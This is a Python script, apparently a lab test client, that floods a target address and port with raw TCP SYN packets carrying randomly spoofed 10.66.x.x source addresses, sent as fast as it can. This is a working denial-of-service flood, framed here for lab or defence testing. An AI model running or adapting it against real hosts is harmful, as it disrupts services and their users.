#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sends SYNs from as many made-up sources, as fast as it can. Runs as the lab's client.

usage: syn_flood.py --to ADDRESS:PORT --mac MAC [--count N] [--interface I]
"""

import argparse
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../lab"))

from rawtcplib import frames  # noqa: E402


def syn(macs, source, port, to, seq):
    ends = (source, port, *to)
    segment = frames.tcp(ends, (seq, 0), 2, 64240, b"\x02\x04\x05\xb4", b"", {})
    return frames.frames(macs, ends, segment, {}, seq)[0]


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--to", required=True)
    parser.add_argument("--mac", required=True)
    parser.add_argument("--count", type=int, default=50000)
    parser.add_argument("--interface", default="eth0")
    args = parser.parse_args()
    address, port = args.to.split(":")
    chance = random.Random(1)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((args.interface, 0))
        macs = args.mac, sock.getsockname()[4].hex(":")
        begun = time.monotonic()
        for _ in range(args.count):
            source = socket.inet_ntoa(struct.pack("!I", 0x0A420000 | chance.randrange(1 << 16)))
            sock.send(syn(macs, source, chance.randrange(1024, 65536), (address, int(port)),
                          chance.randrange(1 << 32)))
        print(f"{args.count} SYNs in {time.monotonic() - begun:.1f} s")


if __name__ == "__main__":
    main()
